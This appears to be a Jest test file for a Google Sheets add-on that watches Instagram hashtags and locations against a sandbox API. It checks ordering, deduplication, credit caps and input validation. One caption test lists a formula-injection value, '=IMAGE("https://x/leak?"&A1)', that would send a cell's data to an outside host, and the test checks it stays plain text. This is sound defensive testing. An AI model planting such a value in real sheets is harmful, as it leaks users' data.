/**
 * "Watch a hashtag" (issue 24, item 2) with the *built* add-on in the Apps Script stand-in against
 * the sandbox: a watch made through the sidebar's calls, then run by the hourly trigger (the
 * stand-in's clock moved by rt.advance, the sandbox's by its clock route) while posts are
 * published on the tag (POST /_sandbox/hashtag/<tag>/publish). Credits are counted at the sandbox.
 */
import type { GasRuntime } from '../../scripts/gas-standin/runtime';
import { DEMO_KEY, sandboxedAddon } from './harness';

const HOUR = 3600000;
const TAG = 'veganrecipes';
const env = sandboxedAddon();

type Published = { id: string; taken_at: string };

/** Publishes `n` posts on the tag (optionally with a caption); returns them oldest first. */
async function publish(tag: string, n: number, caption?: string): Promise<Published[]> {
  const q = `count=${n}${caption === undefined ? '' : `&caption=${encodeURIComponent(caption)}`}`;
  const res = await fetch(`${env.sandbox.url}/_sandbox/hashtag/${tag}/publish?${q}`, { method: 'POST' });
  expect(res.status).toBe(200);
  return ((await res.json()) as { published: Published[] }).published.reverse();
}

/** An hour passes: the hourly trigger runs once; with `world`, the sandbox's world moves an hour too (its tags gain posts). */
async function nextHour(rt: GasRuntime, world = true): Promise<void> {
  if (world) await fetch(`${env.sandbox.url}/_sandbox/clock?advance=${HOUR}`, { method: 'POST' });
  rt.advance(HOUR);
}

type Item = { id: string; taken_at: string };

/** A page of the tag's recent posts, read with the demo key (billed like any page). */
async function page(tag: string, cursor: string | null): Promise<{ items: Item[]; next_cursor: string | null }> {
  const q = new URLSearchParams({ tag, ...(cursor ? { cursor } : {}) });
  const res = await fetch(`${env.sandbox.url}/v1/hashtag/recent?${q}`, {
    headers: { authorization: `Bearer ${DEMO_KEY}` },
  });
  return ((await res.json()) as { data: { items: Item[]; next_cursor: string | null } }).data;
}

/** The tag's posts newer than the post `until`, newest first. */
async function postsSince(tag: string, until: string): Promise<Item[]> {
  const out: Item[] = [];
  for (let cursor: string | null = null; ;) {
    const p = await page(tag, cursor);
    const end = p.items.findIndex((x) => x.id === until);
    out.push(...(end < 0 ? p.items : p.items.slice(0, end)));
    if (end >= 0 || !p.next_cursor) return out;
    cursor = p.next_cursor;
  }
}

function newSheet(): GasRuntime {
  const rt = env.runtime();
  rt.call('igSidebarState'); // installs the hourly trigger
  return rt;
}

/** The watch sheet's rows below the header. */
const rowsOf = (rt: GasRuntime, sheet: string) =>
  rt.spreadsheet
    .sheet(sheet)
    .getValues()
    .slice(1)
    .filter((r) => r[8] !== '');
const idsOf = (rt: GasRuntime, sheet: string) => rowsOf(rt, sheet).map((r) => String(r[8]));

/** Requests for a page after the first (with a cursor), by request: each must be read once. */
async function cursorPages(): Promise<number[]> {
  const { byRequest } = await env.sandbox.stats();
  return Object.entries(byRequest as Record<string, number>)
    .filter(([k]) => k.includes('hashtag/recent') && k.includes('cursor'))
    .map(([, n]) => n);
}

test('hourly over 3 days on the moving sandbox: every post that appeared is in the sheet once, in order; credits = pages read; a capped run continues', async () => {
  const rt = newSheet();
  const tags = [TAG, 'plantbased'];
  // The preview: each tag's newest page (2 credits), under a page an hour each: 2 credits a run.
  const preview = rt.call('igWatchPreview', { tags: tags.join(', '), every: 'hourly', cap: 2 });
  expect(preview).toMatchObject({ perRun: 2, perMonth: 1440, previewCredits: 2, when: 'hourly' });
  const [w] = rt.call('igWatchCreate', { tags: tags.join(', '), every: 'hourly', cap: 2 }) as {
    sheet: string;
    last: { pages: number; rows: number };
  }[];
  // The first run: each tag's newest page (30 posts each, less the posts carrying both tags).
  expect(w.last.pages).toBe(2);
  // The same pages as the test reads them (2 credits more at the sandbox, 4 with the preview's).
  const firstPages = await Promise.all(tags.map(async (t) => (await page(t, null)).items));
  let pages = 2;
  let capped = 0;
  for (let h = 0; h < 72; h++) {
    if (h === 30) await publish(TAG, 70); // 3 pages on one tag: more than the cap of 2 a run
    await nextHour(rt);
    const [v] = rt.call('igWatches') as { last: { pages: number; credits: number; message?: string } }[];
    expect(v.last.credits).toBe(v.last.pages);
    expect(v.last.credits).toBeLessThanOrEqual(2);
    pages += v.last.pages;
    if (/cap of 2 credits/.test(v.last.message ?? '')) capped++;
  }
  expect(capped).toBeGreaterThan(0);
  // A page a tag an hour (the world adds fewer than 30 posts an hour: the preview's figure). The
  // burst's 2 more pages (70 posts and the one seen last fill 3) took the place of pages the cap put
  // off: a tag left for the next run is read once for two hours.
  expect(pages).toBe(2 + 72 * preview.perRun);
  const stats = await env.sandbox.stats();
  expect(stats.creditsBilled - 4).toBe(pages);
  expect(stats.byEndpoint['hashtag/recent'] - 4).toBe(pages);
  expect(await cursorPages()).toEqual(expect.not.arrayContaining([2]));
  const usage = rt.call('igUsage') as Record<string, Record<string, number>>;
  expect(Object.values(usage).reduce((n, d) => n + (d[`Watch #${TAG} #plantbased`] ?? 0), 0)).toBe(pages);

  // What the tags hold now, from their first pages at the start (read after the counts above).
  const appeared = await Promise.all(tags.map((t, i) => postsSince(t, firstPages[i][0].id)));
  expect(appeared[0].length).toBeGreaterThan(70 + 40); // the burst and the world's own posts
  expect(appeared[1].length).toBeGreaterThan(10);
  const rows = rowsOf(rt, w.sheet);
  const ids = rows.map((r) => String(r[8]));
  expect(new Set(ids).size).toBe(ids.length); // each post once
  const expected = new Set([...appeared.flat(), ...firstPages.flat()].map((p) => p.id));
  expect(new Set(ids)).toEqual(expected);
  // In order: each tag's rows oldest first, and every post that appeared after the start below the first pages' rows.
  for (const t of tags) {
    const times = rows.filter((r) => r[2] === `#${t}`).map((r) => (r[1] as Date).getTime());
    expect([...times].sort((a, b) => a - b)).toEqual(times);
  }
  const after = new Set(appeared.flat().map((p) => p.id));
  const firstAfter = ids.findIndex((id) => after.has(id));
  expect(ids.slice(firstAfter).every((id) => after.has(id))).toBe(true);
});

test('a run stopped by its cap continues where it stopped: the older posts go above the rows it wrote, no page is read twice', async () => {
  const rt = newSheet();
  const [w] = rt.call('igWatchCreate', { tags: TAG, every: 'hourly', cap: 2 }) as { id: string; sheet: string }[];
  const baseline = idsOf(rt, w.sheet);
  const first = await publish(TAG, 100); // 4 pages to the post seen last: 2 this run, 2 the next
  await nextHour(rt, false); // the world stands still: only the posts published here appear
  let [v] = rt.call('igWatches') as { last: { pages: number; rows: number; credits: number; message?: string } }[];
  expect(v.last).toMatchObject({ pages: 2, rows: 60, credits: 2 });
  expect(v.last.message).toMatch(/cap of 2 credits.*next run goes on/);
  expect(idsOf(rt, w.sheet)).toEqual([...baseline, ...first.slice(40).map((p) => p.id)]);
  const second = await publish(TAG, 10);
  await nextHour(rt, false); // the cap goes to the rest of the 100 (pages 3 and 4); the 10 wait
  [v] = rt.call('igWatches');
  expect(v.last).toMatchObject({ pages: 2, rows: 40, credits: 2 });
  expect(idsOf(rt, w.sheet)).toEqual([...baseline, ...first.map((p) => p.id)]);
  await nextHour(rt, false);
  [v] = rt.call('igWatches');
  expect(v.last).toMatchObject({ pages: 1, rows: 10, credits: 1 });
  expect(v.last.message).toBeUndefined();
  expect(idsOf(rt, w.sheet)).toEqual([...baseline, ...first.map((p) => p.id), ...second.map((p) => p.id)]);
  const stats = await env.sandbox.stats();
  expect(stats.creditsBilled).toBe(1 + 2 + 2 + 1);
  expect(await cursorPages()).toEqual([1, 1, 1]);
});

test('captions and authors stay text, the thumbnail is a formula we built, likes and comments are numbers', async () => {
  const rt = newSheet();
  const traps = ['=IMAGE("https://x/leak?"&A1)', '0012345', 'TRUE', '2026-01-05', '+15551234567', "'x"];
  const [w] = rt.call('igWatchCreate', { tags: TAG, every: 'daily', hour: 7, cap: 5 }) as { sheet: string }[];
  for (const caption of traps) await publish(TAG, 1, caption);
  rt.call('igWatchDelete', 'none'); // deleting an unknown id changes nothing
  rt.advance(25 * HOUR);
  const rows = rowsOf(rt, w.sheet);
  expect(rows.slice(-traps.length).map((r) => r[4])).toEqual(traps);
  const sheet = rt.spreadsheet.sheet(w.sheet);
  const formulas = [...sheet.formulas.entries()];
  expect(formulas.length).toBe(rows.length);
  for (const [cell, f] of formulas) {
    expect(cell).toMatch(/^\d+,1$/);
    expect(f).toMatch(/^=IMAGE\("https?:\/\/[^"]+"\)$/);
  }
  for (const r of rows) {
    expect(typeof r[5]).toBe('number');
    expect(typeof r[6]).toBe('number');
    expect(r[1]).toBeInstanceOf(Date);
  }
});

test('a location: its newest page first, then what the world posts there', async () => {
  const rt = newSheet();
  const [w] = rt.call('igWatchCreate', { location: '213385402', every: 'daily', hour: 7, cap: 3 }) as {
    name: string;
    sheet: string;
    last: { pages: number; rows: number };
  }[];
  expect(w).toMatchObject({ name: 'location 213385402', last: { pages: 1 } });
  const first = rowsOf(rt, w.sheet);
  expect(first.length).toBe(w.last.rows);
  expect(first.every((r) => r[2] === 'location 213385402')).toBe(true);
  for (let h = 0; h < 48; h++) await nextHour(rt);
  const rows = rowsOf(rt, w.sheet);
  const ids = rows.map((r) => String(r[8]));
  expect(new Set(ids).size).toBe(ids.length);
  const times = rows.map((r) => (r[1] as Date).getTime());
  expect([...times].sort((a, b) => a - b)).toEqual(times);
  // Two daily runs, a page each at most cap: 1 + 2 credits.
  await expect(env.sandbox.stats()).resolves.toMatchObject({ creditsBilled: 3 });
});

test('bad input says which and what to do, nothing is saved or charged', async () => {
  const rt = newSheet();
  expect(() => rt.call('igWatchCreate', { tags: '', every: 'hourly', cap: 5 })).toThrow(
    /Tags: type one or more hashtags/,
  );
  expect(() => rt.call('igWatchCreate', { tags: 'vegan', every: 'weekly', cap: 5 })).toThrow(
    /Repeat: choose "hourly" or "daily"/,
  );
  expect(() => rt.call('igWatchCreate', { tags: 'vegan', every: 'hourly', cap: 500 })).toThrow(
    /Credit cap per run: a whole number from 1 \(one page\) to 100/,
  );
  expect(rt.call('igWatches')).toEqual([]);
  await expect(env.sandbox.stats()).resolves.toMatchObject({ creditsBilled: 0 });
});
